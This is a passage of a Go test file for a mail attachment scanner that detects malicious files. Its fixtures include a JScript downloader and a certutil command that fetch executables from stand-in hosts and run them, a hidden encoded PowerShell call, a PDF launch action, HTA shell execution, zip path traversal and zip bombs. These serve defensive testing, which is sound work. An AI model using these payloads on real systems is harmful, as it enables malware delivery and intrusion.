package attach

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/ward-health/ward/internal/mail/finding"
	"github.com/ward-health/ward/internal/mail/office"
)

// signals returns "signal:class" for each finding, for compact asserts.
func signals(r Report) []string {
	var out []string
	for _, f := range r.Findings {
		out = append(out, f.Signal+":"+className(f.Class))
	}
	return out
}

func className(c finding.Class) string {
	return [...]string{"weak", "malware", "phishing", "limit"}[c]
}

// hasSignal reports whether r has a finding with signal and class.
func hasSignal(r Report, signal string, class finding.Class) bool {
	for _, f := range r.Findings {
		if f.Signal == signal && f.Class == class {
			return true
		}
	}
	return false
}

func malware(r Report) bool {
	for _, f := range r.Findings {
		if f.Class == finding.Malware {
			return true
		}
	}
	return false
}

func analyze(t testing.TB, name string, data []byte, pw ...string) Report {
	t.Helper()
	return Analyze(context.Background(), Attachment{Name: name, Data: data, Passwords: pw}, Limits{})
}

func TestTypes(t *testing.T) {
	ole := make([]byte, 1536)
	copy(ole, oleMagic)
	binary.LittleEndian.PutUint16(ole[0x1E:], 9)
	msi := bytes.Clone(ole)
	copy(msi[512+0x50:], msiCLSIDs[0])
	pdfLate := append(bytes.Repeat([]byte{' '}, 500), []byte("%PDF-1.4\n")...)
	vhd := make([]byte, 2048)
	copy(vhd[len(vhd)-512:], "conectix")
	one := append(append([]byte{}, oneNoteGUID...), make([]byte, 100)...)
	ooxml := buildZip(t, zipMember{name: "[Content_Types].xml", data: []byte("<Types/>")}, zipMember{name: "word/document.xml", data: []byte("<w/>")})
	jar := buildZip(t, zipMember{name: "META-INF/MANIFEST.MF", data: []byte("Main-Class: A\n")}, zipMember{name: "A.class", data: []byte{0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52}})
	odf := buildZip(t, zipMember{name: "mimetype", data: []byte("application/vnd.oasis.opendocument.text"), store: true})
	tests := []struct {
		name string
		data []byte
		want string
	}{
		{"a.bin", minimalPE(false), "pe"},
		{"a.bin", []byte("\x7fELF\x02\x01\x01\x00rest"), "elf"},
		{"a.bin", []byte{0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1}, "macho"},
		{"a.doc", ole, "ole"},
		{"a.msi", msi, "msi"},
		{"a.docx", ooxml, "ooxml"},
		{"a.jar", jar, "jar"},
		{"a.odt", odf, "odf"},
		{"a.zip", buildZip(t, zipMember{name: "a.txt", data: []byte("hi")}), "zip"},
		{"a.rar", rar4Fixture("x.txt"), "rar"},
		{"a.rar", rar5Fixture("x.txt"), "rar"},
		{"a.7z", []byte("7z\xbc\xaf\x27\x1c\x00\x04"), "7z"},
		{"a.gz", gzipOf("x", []byte("x")), "gzip"},
		{"a.xz", append(append([]byte{}, xzMagic...), 0, 4), "xz"},
		{"a.zst", []byte{0x28, 0xB5, 0x2F, 0xFD, 0, 0}, "zstd"},
		{"a.cab", []byte("MSCF\x00\x00\x00\x00restofheader"), "cab"},
		{"a.tar", tarOf(map[string][]byte{"x": []byte("x")}, "x"), "tar"},
		{"a.iso", buildISO(isoFile{"A.TXT;1", []byte("hello")}), "iso"},
		{"a.vhd", vhd, "vhd"},
		{"a.vhdx", []byte("vhdxfile and more"), "vhdx"},
		{"a.lnk", lnkFile(), "lnk"},
		{"a.chm", []byte("ITSF\x03\x00\x00\x00"), "chm"},
		{"a.one", one, "one"},
		{"a.pdf", pdfDoc("<< /Type /Catalog >>"), "pdf"},
		{"a.pdf", pdfLate, "pdf"},
		{"a.rtf", []byte(`{\rtf1\ansi hello}`), "rtf"},
		{"a.htm", []byte("<!DOCTYPE html><html><body>hi</body></html>"), "html"},
		{"a.svg", []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"></svg>`), "svg"},
		{"a.xml", []byte(`<?xml version="1.0"?><root/>`), "xml"},
		{"a.png", append(append([]byte{}, pngMagic...), 0, 0, 0, 13), "png"},
		{"a.jpg", []byte{0xFF, 0xD8, 0xFF, 0xE0, 0, 0x10}, "jpeg"},
		{"a.gif", []byte("GIF89a\x01\x00"), "gif"},
		{"a.webp", []byte("RIFF\x10\x00\x00\x00WEBPVP8 "), "webp"},
		{"a.txt", []byte("Dear colleague,\nthe meeting moves to 3 pm.\n"), "text"},
		{"a.vbe", []byte("#@~^DgAAAA==\\ko$K6,JCV^GJqAQAAA==^#~@"), "vbe"},
		{"a.vbs", []byte("MsgBox \"hi\"\n"), "vbs"},
		{"a.js", []byte("var x = 1;\n"), "js"},
		{"a.ps1", []byte("Write-Host hi\n"), "ps1"},
		{"a.hta", []byte(`<html><head><HTA:APPLICATION ID="x"></head></html>`), "hta"},
		{"a.wsf", []byte(`<job id="x"><script language="VBScript">MsgBox 1</script></job>`), "wsf"},
		{"a.url", []byte("[InternetShortcut]\r\nURL=file://1.2.3.4/share/x.exe\r\n"), "url"},
		{"a.reg", []byte("Windows Registry Editor Version 5.00\r\n"), "reg"},
		{"notes.txt", []byte("@echo off\r\ncmd /c start x.exe\r\n"), "bat"},
		{"ps.txt", []byte{0xFF, 0xFE, 'W', 0, 'r', 0, 'i', 0, 't', 0, 'e', 0}, "text"},
	}
	for _, tc := range tests {
		t.Run(tc.want+"/"+tc.name, func(t *testing.T) {
			r := analyze(t, tc.name, tc.data)
			if r.Type != tc.want {
				t.Errorf("Type = %q, want %q (findings %v)", r.Type, tc.want, signals(r))
			}
			if r.Size != int64(len(tc.data)) || len(r.SHA256) != 64 {
				t.Errorf("Size %d SHA256 %q", r.Size, r.SHA256)
			}
		})
	}
}

func TestDangerous(t *testing.T) {
	tests := []struct {
		name     string
		file     string
		data     []byte
		want     string // signal
		class    finding.Class
		noSignal string // a signal that must not appear
	}{
		{"exe", "setup.exe", minimalPE(false), "executable", finding.Malware, "dangerous_extension"},
		{"dll", "x.dll", minimalPE(true), "executable", finding.Malware, ""},
		{"pe named pdf", "invoice.pdf", minimalPE(false), "type_extension_mismatch", finding.Weak, ""},
		{"pe named pdf is malware", "invoice.pdf", minimalPE(false), "executable", finding.Malware, ""},
		{"vbs", "CORONAVIRUS_COVID-19.vbs", []byte("MsgBox 1\n"), "script_attachment", finding.Malware, ""},
		{"js", "invoice.js", []byte("var a = 1;"), "script_attachment", finding.Malware, ""},
		{"lnk", "document.lnk", lnkFile(), "dangerous_extension", finding.Malware, ""},
		{"scr", "photo.scr", minimalPE(false), "executable", finding.Malware, ""},
		{"iso by name and content", "invoice.iso", buildISO(isoFile{"README.TXT;1", []byte("hi")}), "disk_image", finding.Weak, ""},
		{"iso content named img", "a.img", buildISO(isoFile{"README.TXT;1", []byte("hi")}), "disk_image", finding.Weak, ""},
		{"url shortcut", "open.url", []byte("[InternetShortcut]\r\nURL=https://example.org/\r\n"), "shortcut_file", finding.Weak, ""},
		{"hta content as txt", "readme.txt", []byte(`<html><hta:application id=x></html>`), "dangerous_content", finding.Weak, "script_attachment"},
		{"double extension", "invoice.pdf.exe", minimalPE(false), "double_extension", finding.Weak, ""},
		{"padded extension", "covid.doc          .js", []byte("var a=1;"), "double_extension", finding.Weak, ""},
		{"padded is malware", "covid.doc          .js", []byte("var a=1;"), "script_attachment", finding.Malware, ""},
		{"rlo", "photo_\u202Egpj.exe", minimalPE(false), "name_bidi_control", finding.Weak, ""},
		{"zero width", "inv\u200Boice.pdf", pdfDoc("<< >>"), "name_bidi_control", finding.Weak, ""},
		{"plain pdf", "report.pdf", pdfDoc("<< /Type /Catalog >>"), "", 0, "executable"},
		{"plain text", "notes.txt", []byte("Minutes of the infection prevention meeting.\n"), "", 0, "script_attachment"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := analyze(t, tc.file, tc.data)
			if tc.want != "" && !hasSignal(r, tc.want, tc.class) {
				t.Errorf("want %s:%s, got %v", tc.want, className(tc.class), signals(r))
			}
			if tc.want == "" && len(r.Findings) > 0 {
				t.Errorf("want no findings, got %v", signals(r))
			}
			if tc.noSignal != "" && has(&r, tc.noSignal) {
				t.Errorf("unexpected %s in %v", tc.noSignal, signals(r))
			}
		})
	}
}

func TestDeclaredTypeMismatch(t *testing.T) {
	r := Analyze(context.Background(), Attachment{Name: "scan", DeclaredType: "application/pdf", Data: minimalPE(false)}, Limits{})
	if !hasSignal(r, "declared_type_mismatch", finding.Weak) {
		t.Errorf("PE declared as PDF: %v", signals(r))
	}
	r = Analyze(context.Background(), Attachment{Name: "scan.pdf", DeclaredType: "application/pdf", Data: pdfDoc("<< >>")}, Limits{})
	if has(&r, "declared_type_mismatch") {
		t.Errorf("PDF declared as PDF: %v", signals(r))
	}
}

func TestZipMembers(t *testing.T) {
	z := buildZip(t,
		zipMember{name: "docs/letter.pdf", data: pdfDoc("<< /Type /Catalog >>")},
		zipMember{name: "docs/Covid19_form.pdf.exe", data: minimalPE(false)},
		zipMember{name: "../../Startup/run.bat", data: []byte("@echo off\r\n"), store: true},
		zipMember{name: `C:\Windows\evil.txt`, data: []byte("x")},
	)
	r := analyze(t, "documents.zip", z)
	if r.Type != "zip" || len(r.Members) != 4 {
		t.Fatalf("type %s, %d members: %v", r.Type, len(r.Members), signals(r))
	}
	want := []string{"docs/letter.pdf", "docs/Covid19_form.pdf.exe", "../../Startup/run.bat", `C:\Windows\evil.txt`}
	for i, m := range r.Members {
		if m.Name != want[i] {
			t.Errorf("member %d = %q, want %q (archive order)", i, m.Name, want[i])
		}
	}
	if r.Members[1].Type != "pe" || !malware(r.Members[1]) {
		t.Errorf("exe member: type %s %v", r.Members[1].Type, signals(r.Members[1]))
	}
	if !malware(r) {
		t.Errorf("zip with an exe is not malware at the top: %v", signals(r))
	}
	traversal := 0
	for _, f := range r.Findings {
		if f.Signal == "archive_path_traversal" {
			traversal++
		}
		if f.Signal == "executable" && !strings.Contains(f.Detail, `"docs/Covid19_form.pdf.exe"`) {
			t.Errorf("member finding does not name the member: %s", f.Detail)
		}
	}
	if traversal != 2 {
		t.Errorf("traversal findings = %d, want 2: %v", traversal, signals(r))
	}
	if r.Members[0].SHA256 == "" || r.Members[0].Type != "pdf" {
		t.Errorf("pdf member %+v", r.Members[0])
	}
}

func TestZipOfDocumentsIsNotMalware(t *testing.T) {
	z := buildZip(t,
		zipMember{name: "rooster.pdf", data: pdfDoc("<< /Type /Catalog >>")},
		zipMember{name: "notes.txt", data: []byte("Shift changes for week 12.\n")},
	)
	r := analyze(t, "rooster.zip", z)
	if len(r.Findings) != 0 {
		t.Errorf("plain zip of documents: %v", signals(r))
	}
}

func TestZipFromArchiveZipWriter(t *testing.T) {
	// Go's writer puts sizes in data descriptors after the data.
	var b bytes.Buffer
	w := newStdZip(&b)
	w.add("a/readme.txt", []byte("hello"))
	w.add("a/tool.exe", minimalPE(false))
	w.close()
	r := analyze(t, "x.zip", b.Bytes())
	if len(r.Members) != 2 || r.Members[1].Type != "pe" || len(r.Errors) != 0 {
		t.Fatalf("members %d, errors %v, findings %v", len(r.Members), r.Errors, signals(r))
	}
}

func TestZipHiddenAndMismatch(t *testing.T) {
	z := buildZip(t,
		zipMember{name: "invoice.pdf", local: "invoice.exe", data: minimalPE(false)},
		zipMember{name: "hidden.js", data: []byte("var x=1;"), noCD: true},
		zipMember{name: "readme.txt", data: []byte("hello")},
	)
	r := analyze(t, "a.zip", z)
	if !hasSignal(r, "archive_name_mismatch", finding.Weak) {
		t.Errorf("local/central name mismatch not reported: %v", signals(r))
	}
	if !hasSignal(r, "archive_hidden_member", finding.Weak) {
		t.Errorf("member missing from the central directory not reported: %v", signals(r))
	}
	found := false
	for _, m := range r.Members {
		if m.Name == "hidden.js" && hasSignal(m, "script_attachment", finding.Malware) {
			found = true
		}
	}
	if !found {
		t.Errorf("hidden member not analysed: %v", signals(r))
	}
}

func TestZipWithoutCentralDirectory(t *testing.T) {
	z := buildZip(t, zipMember{name: "payload.exe", data: minimalPE(false)})
	cut := bytes.Index(z, []byte(sigCentral))
	r := analyze(t, "broken.zip", z[:cut])
	if len(r.Members) != 1 || !malware(r) {
		t.Fatalf("members %d %v errors %v", len(r.Members), signals(r), r.Errors)
	}
	if len(r.Errors) == 0 {
		t.Error("missing central directory not recorded in Errors")
	}
}

func TestZipPrependedGarbage(t *testing.T) {
	z := append([]byte(strings.Repeat("GARBAGE!", 64)), buildZip(t, zipMember{name: "x.exe", data: minimalPE(false)})...)
	r := analyze(t, "x.zip", z)
	if r.Type != "data" && len(r.Members) != 1 {
		t.Fatalf("type %s members %d", r.Type, len(r.Members))
	}
}

func TestEncryptedZip(t *testing.T) {
	pe := minimalPE(false)
	tests := []struct {
		name      string
		member    zipMember
		passwords []string
		opened    bool
		inBody    bool
	}{
		{"zipcrypto with body password", zipMember{name: "invoice.exe", data: pe, password: "COVID2020"}, []string{"wrong", "COVID2020"}, true, true},
		{"zipcrypto stored", zipMember{name: "invoice.exe", data: pe, password: "1234", store: true}, []string{"1234"}, true, true},
		{"zipcrypto no password", zipMember{name: "invoice.exe", data: pe, password: "secret"}, nil, false, false},
		{"zipcrypto wrong passwords", zipMember{name: "invoice.exe", data: pe, password: "secret"}, []string{"a", "b"}, false, false},
		{"aes-128", zipMember{name: "invoice.exe", data: pe, password: "infected", aes: 1}, []string{"infected"}, true, true},
		{"aes-192", zipMember{name: "invoice.exe", data: pe, password: "pw", aes: 2}, []string{"pw"}, true, true},
		{"aes-256", zipMember{name: "invoice.exe", data: pe, password: "Wachtwoord!", aes: 3}, []string{"x", "Wachtwoord!"}, true, true},
		{"aes-256 wrong", zipMember{name: "invoice.exe", data: pe, password: "Wachtwoord!", aes: 3}, []string{"x"}, false, false},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			z := buildZip(t, tc.member)
			r := analyze(t, "docs.zip", z, tc.passwords...)
			if !hasSignal(r, "archive_encrypted", finding.Weak) {
				t.Errorf("no archive_encrypted: %v", signals(r))
			}
			if got := hasSignal(r, "archive_password_in_body", finding.Weak); got != tc.inBody {
				t.Errorf("archive_password_in_body = %v, want %v", got, tc.inBody)
			}
			if len(r.Members) != 1 {
				t.Fatalf("members = %d", len(r.Members))
			}
			m := r.Members[0]
			if tc.opened && (m.Type != "pe" || m.SHA256 == "") {
				t.Errorf("decrypted member type %q sha %q errors %v", m.Type, m.SHA256, r.Errors)
			}
			if !tc.opened && m.Type != "" {
				t.Errorf("member typed %q without the password", m.Type)
			}
			// The name alone (.exe) still counts: an encrypted zip with
			// an exe inside is malware whether or not it opens.
			if !malware(r) {
				t.Errorf("not malware: %v", signals(r))
			}
			var detail string
			for _, f := range r.Findings {
				if f.Signal == "archive_encrypted" {
					detail = f.Detail
				}
			}
			if !tc.opened && !strings.Contains(detail, "not examined") {
				t.Errorf("detail does not say the content was not examined: %s", detail)
			}
		})
	}
}

func TestEncryptedZipFromZipTool(t *testing.T) {
	// testdata/zipcrypto.zip was made with Info-ZIP's zip -P (SOURCE.md).
	data, err := os.ReadFile("testdata/zipcrypto.zip")
	if err != nil {
		t.Fatal(err)
	}
	r := analyze(t, "zipcrypto.zip", data, "covid19")
	if len(r.Members) != 1 || r.Members[0].Type != "text" || !hasSignal(r, "archive_password_in_body", finding.Weak) {
		t.Fatalf("members %+v findings %v errors %v", r.Members, signals(r), r.Errors)
	}
	if r.Members[0].SHA256 != sha256hex([]byte("harmless text inside an encrypted zip\n")) {
		t.Errorf("decrypted content differs")
	}
}

func TestZipBombs(t *testing.T) {
	t.Run("single huge member", func(t *testing.T) {
		z := buildZip(t, zipMember{name: "zeros.bin", data: make([]byte, 32<<20)})
		r := analyze(t, "bomb.zip", z)
		if !hasSignal(r, "archive_bomb", finding.Limit) || r.Limit == "" {
			t.Fatalf("no bomb finding: %v limit %q", signals(r), r.Limit)
		}
		if r.Members[0].Size >= 32<<20 {
			t.Errorf("read %d bytes, the whole member", r.Members[0].Size)
		}
	})
	t.Run("file size limit", func(t *testing.T) {
		data := bytes.Repeat([]byte("0123456789abcdef"), 1<<16) // 1 MiB, compresses well but under the 1 MiB floor
		z := buildZip(t, zipMember{name: "big.txt", data: data})
		r := Analyze(context.Background(), Attachment{Name: "a.zip", Data: z}, Limits{MaxFileSize: 64 << 10})
		if !hasSignal(r, "limit_size", finding.Limit) || r.Members[0].Size != 64<<10 {
			t.Fatalf("%v size %d", signals(r), r.Members[0].Size)
		}
	})
	t.Run("recursive", func(t *testing.T) {
		z := nestedZip(t, zipMember{name: "deep.exe", data: minimalPE(false)}, 6)
		r := analyze(t, "level-1.zip", z)
		if !hasSignal(r, "limit_depth", finding.Limit) {
			t.Fatalf("no depth limit: %v", signals(r))
		}
		want := "archive depth limit 4 reached in level-1.zip/level-2.zip/level-3.zip/level-4.zip/level-5.zip"
		if !strings.HasPrefix(r.Limit, want) {
			t.Errorf("Limit = %q, want prefix %q", r.Limit, want)
		}
	})
	t.Run("42-style fan-out", func(t *testing.T) {
		leaf := buildZip(t, zipMember{name: "zeros.bin", data: make([]byte, 1<<20)})
		level := leaf
		for d := 0; d < 3; d++ {
			var ms []zipMember
			for i := 0; i < 16; i++ {
				ms = append(ms, zipMember{name: fmt.Sprintf("lib%d.zip", i), data: level})
			}
			level = buildZip(t, ms...)
		}
		r := Analyze(context.Background(), Attachment{Name: "42.zip", Data: level}, Limits{MaxFiles: 200})
		if !hasSignal(r, "limit_files", finding.Limit) || r.Limit == "" {
			t.Fatalf("no file limit: %v", signals(r))
		}
		if n := countMembers(r); n > 200 {
			t.Errorf("examined %d members, limit 200", n)
		}
	})
	t.Run("overlapping entries", func(t *testing.T) {
		z := buildZip(t, zipMember{name: "a.txt", data: bytes.Repeat([]byte("a"), 4096)})
		// Duplicate the central directory entry: both point at one local
		// header.
		cd := bytes.Index(z, []byte(sigCentral))
		end := bytes.Index(z, []byte(sigEnd))
		entry := z[cd:end]
		dup := append(append(append([]byte{}, z[:end]...), entry...), z[end:]...)
		e := dup[len(dup)-22:]
		binary.LittleEndian.PutUint16(e[8:], 2)
		binary.LittleEndian.PutUint16(e[10:], 2)
		binary.LittleEndian.PutUint32(e[12:], uint32(2*len(entry)))
		r := analyze(t, "overlap.zip", dup)
		if !hasSignal(r, "archive_bomb", finding.Limit) {
			t.Errorf("overlap not reported: %v", signals(r))
		}
	})
	t.Run("total limit", func(t *testing.T) {
		var ms []zipMember
		for i := 0; i < 8; i++ {
			ms = append(ms, zipMember{name: fmt.Sprintf("f%d.bin", i), data: bytes.Repeat([]byte{byte(i)}, 200<<10), store: true})
		}
		r := Analyze(context.Background(), Attachment{Name: "t.zip", Data: buildZip(t, ms...)}, Limits{MaxTotal: 1 << 20})
		if !hasSignal(r, "limit_total", finding.Limit) {
			t.Errorf("%v", signals(r))
		}
	})
}

func countMembers(r Report) int {
	n := len(r.Members)
	for _, m := range r.Members {
		n += countMembers(m)
	}
	return n
}

func TestNestedZipFindingsReachTop(t *testing.T) {
	z := nestedZip(t, zipMember{name: "deep.vbs", data: vbsDropper()}, 3)
	r := analyze(t, "level-1.zip", z)
	if !malware(r) {
		t.Fatalf("dropper three zips deep not malware at the top: %v", signals(r))
	}
	var d string
	for _, f := range r.Findings {
		if f.Signal == "script_attachment" {
			d = f.Detail
		}
	}
	if !strings.Contains(d, `"level-2.zip/level-3.zip/deep.vbs"`) {
		t.Errorf("detail does not give the member path: %q", d)
	}
}

func TestGzipTar(t *testing.T) {
	tgz := gzipOf("", tarOf(map[string][]byte{"docs/a.txt": []byte("hello"), "docs/b.exe": minimalPE(false)}, "docs/a.txt", "docs/b.exe"))
	r := analyze(t, "docs.tar.gz", tgz)
	if r.Type != "gzip" || len(r.Members) != 1 || r.Members[0].Type != "tar" || len(r.Members[0].Members) != 2 {
		t.Fatalf("structure: %+v", r)
	}
	if !malware(r) {
		t.Errorf("exe in tar.gz: %v", signals(r))
	}
	if r.Members[0].Name != "docs.tar" {
		t.Errorf("gzip member name %q", r.Members[0].Name)
	}
}

func TestISO(t *testing.T) {
	iso := buildISO(isoFile{"INVOICE.PDF;1", pdfDoc("<< >>")}, isoFile{"INVOICE.LNK;1", lnkFile()}, isoFile{"DATA.DLL;1", minimalPE(true)})
	r := analyze(t, "invoice.iso", iso)
	if r.Type != "iso" || len(r.Members) != 3 {
		t.Fatalf("type %s members %d errors %v", r.Type, len(r.Members), r.Errors)
	}
	names := []string{r.Members[0].Name, r.Members[1].Name, r.Members[2].Name}
	if !reflect.DeepEqual(names, []string{"INVOICE.PDF", "INVOICE.LNK", "DATA.DLL"}) {
		t.Errorf("names %v", names)
	}
	if !hasSignal(r.Members[1], "dangerous_extension", finding.Malware) || !hasSignal(r.Members[2], "executable", finding.Malware) {
		t.Errorf("lnk/dll in ISO: %v / %v", signals(r.Members[1]), signals(r.Members[2]))
	}
	if !hasSignal(r, "disk_image", finding.Weak) || !malware(r) {
		t.Errorf("top: %v", signals(r))
	}
}

func TestRARAndCabNames(t *testing.T) {
	for _, data := range [][]byte{rar4Fixture("readme.txt", "Covid19 info.pdf.exe"), rar5Fixture("readme.txt", "Covid19 info.pdf.exe")} {
		r := analyze(t, "info.rar", data)
		if r.Type != "rar" || len(r.Members) != 2 || r.Members[1].Name != "Covid19 info.pdf.exe" {
			t.Fatalf("rar members %+v errors %v", r.Members, r.Errors)
		}
		if !hasSignal(r, "archive_not_opened", finding.Weak) || !hasSignal(r, "double_extension", finding.Weak) || !malware(r) {
			t.Errorf("rar findings %v", signals(r))
		}
	}
	cab := make([]byte, 36)
	copy(cab, "MSCF")
	binary.LittleEndian.PutUint32(cab[16:], 36)
	binary.LittleEndian.PutUint16(cab[28:], 1)
	cab = append(cab, make([]byte, 16)...)
	cab = append(cab, "setup.exe\x00"...)
	r := analyze(t, "x.cab", cab)
	if r.Type != "cab" || len(r.Members) != 1 || r.Members[0].Name != "setup.exe" || !malware(r) {
		t.Errorf("cab %+v %v", r.Members, signals(r))
	}
}

func TestOneNoteEmbedded(t *testing.T) {
	hta := []byte(`<html><head><hta:application id="x"></head><script>new ActiveXObject("WScript.Shell").Run("cmd /c calc")</script></html>`)
	one := append([]byte{}, oneNoteGUID...)
	one = append(one, make([]byte, 64)...)
	one = append(one, oneFileData...)
	size := make([]byte, 20)
	binary.LittleEndian.PutUint64(size, uint64(len(hta)))
	one = append(one, size...)
	one = append(one, hta...)
	r := analyze(t, "Invoice.one", one)
	if r.Type != "one" || len(r.Members) != 1 || r.Members[0].Type != "hta" {
		t.Fatalf("%+v", r)
	}
	if !hasSignal(r, "onenote_attachment", finding.Weak) || !malware(r) {
		t.Errorf("%v", signals(r))
	}
}

func TestOfficeEmbeddedMembers(t *testing.T) {
	ole := make([]byte, 1536)
	copy(ole, oleMagic)
	binary.LittleEndian.PutUint16(ole[0x1E:], 9)
	var got office.Limits
	z := &analyzer{ctx: context.Background(), lim: DefaultLimits(), officeFn: func(_ context.Context, d []byte, lim office.Limits) office.Report {
		got = lim
		return office.Report{Format: "ole", URLs: []string{"http://template.example/x.dotm"},
			Findings: []finding.Finding{{Signal: "office_test", Detail: "from office", Score: 1}},
			Embedded: []office.Embedded{{Name: "package.exe", Data: minimalPE(false)}, {Data: []byte("plain text")}}}
	}}
	r := z.file("letter.doc", "", ole, 0, "")
	if r.Type != "ole" || len(r.Members) != 2 || r.Members[0].Type != "pe" || r.Members[1].Name != "embedded-2" {
		t.Fatalf("%+v", r)
	}
	if !has(&r, "office_test") || !malware(r) || !reflect.DeepEqual(r.URLs, []string{"http://template.example/x.dotm"}) {
		t.Errorf("findings %v urls %v", signals(r), r.URLs)
	}
	if got.MaxStream == 0 || got.MaxEmbedded == 0 {
		t.Errorf("office limits not passed: %+v", got)
	}
	// OOXML goes to office too; the depth limit stops its embedded
	// objects like any container.
	z.lim.MaxDepth = 1
	ooxml := buildZip(t, zipMember{name: "[Content_Types].xml", data: []byte("<Types/>")})
	r = z.file("a.docx", "", buildZip(t, zipMember{name: "a.docx", data: ooxml}), 0, "")
	if len(r.Members) != 1 || r.Members[0].Type != "ooxml" || !hasSignal(r, "limit_depth", finding.Limit) {
		t.Errorf("%+v", r)
	}
}

func TestPDF(t *testing.T) {
	exe := minimalPE(false)
	tests := []struct {
		name    string
		pdf     []byte
		want    []string // signal:class
		members int
		urls    []string
	}{
		{"javascript on open", pdfDoc(`<< /Type /Catalog /OpenAction 2 0 R >>`, `<< /S /JavaScript /JS (app.alert\(1\)) >>`),
			[]string{"pdf_javascript:weak"}, 0, nil},
		{"obfuscated names", pdfDoc(`<< /Type /Catalog /OpenAction 2 0 R >>`, `<< /S /J#61vaScript /J#53 (x) >>`),
			[]string{"pdf_obfuscated_names:weak", "pdf_javascript:weak"}, 0, nil},
		{"launch cmd", pdfDoc(`<< /Type /Catalog /OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c powershell -w hidden) >> >> >>`),
			[]string{"pdf_launch:malware"}, 0, nil},
		{"uri", pdfDoc(`<< /Type /Catalog >>`, `<< /Type /Page /Annots [3 0 R] >>`, `<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://login.example.net/who/verify) >> >>`),
			[]string{"pdf_single_link:weak"}, 0, []string{"https://login.example.net/who/verify"}},
		{"embedded exe with javascript", pdfDoc(`<< /Type /Catalog /Names << /EmbeddedFiles << /Names [(a) 2 0 R] >> >> /OpenAction << /S /JavaScript /JS (this.exportDataObject\({cName: "a", nLaunch: 2}\)) >> >>`,
			`<< /Type /Filespec /F (Covid19_Update.exe) /EF << /F 3 0 R >> >>`, flateStream("/Type /EmbeddedFile", exe)),
			[]string{"pdf_embedded_file:weak", "pdf_dropper:malware", "executable:malware"}, 1, nil},
		{"javascript in object stream", pdfDoc(`<< /Type /Catalog >>`, flateStream("/Type /ObjStm /N 1 /First 4", []byte("3 0 << /S /JavaScript /JS (x) >> << /URI (http://hidden.example/) >>"))),
			[]string{"pdf_javascript:weak"}, 0, []string{"http://hidden.example/"}},
		{"encrypted", pdfDoc(`<< /Type /Catalog >>`, `<< /Filter /Standard /V 2 >>`) /* no /Encrypt */, nil, 0, nil},
		{"encrypt dict", append(pdfDoc(`<< /Type /Catalog >>`), "trailer << /Encrypt 5 0 R >>"...), []string{"pdf_encrypted:weak"}, 0, nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := analyze(t, "document.pdf", tc.pdf)
			got := signals(r)
			for _, w := range tc.want {
				if !contains1(got, w) {
					t.Errorf("want %s in %v", w, got)
				}
			}
			if tc.want == nil && len(got) != 0 {
				t.Errorf("want nothing, got %v", got)
			}
			if len(r.Members) != tc.members {
				t.Errorf("members %d, want %d", len(r.Members), tc.members)
			}
			if tc.members > 0 && r.Members[0].Name != "Covid19_Update.exe" {
				t.Errorf("embedded file name %q", r.Members[0].Name)
			}
			for _, u := range tc.urls {
				if !contains1(r.URLs, u) {
					t.Errorf("url %s not in %v", u, r.URLs)
				}
			}
		})
	}
}

func TestScripts(t *testing.T) {
	tests := []struct {
		name string
		file string
		data []byte
		want []string
		not  []string
	}{
		{"covid vbs dropper", "CORONAVIRUS_COVID-19.vbs", vbsDropper(), []string{"script_attachment:malware", "script_embedded_executable:malware", "script_dropper:malware", "executable:malware"}, nil},
		{"dropper text in a .txt is weak", "notes.txt", vbsDropper(), []string{"script_dropper:weak"}, []string{"script_attachment:malware", "script_dropper:malware"}},
		{"js downloader", "invoice.js", []byte(`var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET","http://dl.example.com/p.exe",false); x.send();
var s = new ActiveXObject("WScript.Shell"); s.Run("%TEMP%\\p.exe");`), []string{"script_downloader:malware"}, nil},
		{"powershell encoded", "run.ps1", []byte("powershell -nop -w hidden -EncodedCommand SQBFAFgA\n"), []string{"script_encoded_command:weak", "script_attachment:malware"}, nil},
		{"bat certutil", "setup.bat", []byte("@echo off\r\ncertutil -urlcache -split -f http://x.example/a.exe %TEMP%\\a.exe\r\nstart %TEMP%\\a.exe\r\n"), nil, nil},
		{"hex pe in text", "readme.vbs", []byte("x = \"" + fmt.Sprintf("%x", minimalPE(false)) + "\"\n"), []string{"script_embedded_executable:malware"}, nil},
		{"harmless email text", "mail.txt", []byte("Please run the report and send it to IT. Thanks, Anna\nhttps://intranet.example.org/report\n"), nil, []string{"script_execution:weak"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := analyze(t, tc.file, tc.data)
			got := signals(r)
			for _, w := range tc.want {
				if !contains1(got, w) {
					t.Errorf("want %s in %v", w, got)
				}
			}
			for _, w := range tc.not {
				if contains1(got, w) {
					t.Errorf("unexpected %s in %v", w, got)
				}
			}
		})
	}
	r := analyze(t, "mail.txt", []byte("see https://intranet.example.org/report."))
	if !reflect.DeepEqual(r.URLs, []string{"https://intranet.example.org/report"}) {
		t.Errorf("text URLs %v", r.URLs)
	}
	r = analyze(t, "invoice.js", []byte(`var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET","http://dl.example.com/p.exe"); new ActiveXObject("WScript.Shell").Run("p.exe");`))
	if !contains1(r.URLs, "http://dl.example.com/p.exe") {
		t.Errorf("download URL not collected: %v", r.URLs)
	}
}

func TestHTML(t *testing.T) {
	pe := base64.StdEncoding.EncodeToString(minimalPE(false))
	tests := []struct {
		name    string
		file    string
		data    []byte
		want    []string
		not     []string
		members int
	}{
		{"smuggling blob", "results.html", smugglingPage(t), []string{"html_smuggling:malware", "executable:malware"}, nil, 1},
		{"smuggling data uri", "doc.htm", []byte(`<html><body><a id="x" href="data:application/octet-stream;base64,` + pe + `" download="update.exe">Download</a><script>document.getElementById("x").click()</script></body></html>`),
			[]string{"html_smuggling:malware", "executable:malware"}, nil, 1},
		{"login form", "WHO_login.html", []byte(loginPage), []string{"html_attachment_login_form:phishing"}, []string{"html_smuggling:malware"}, 0},
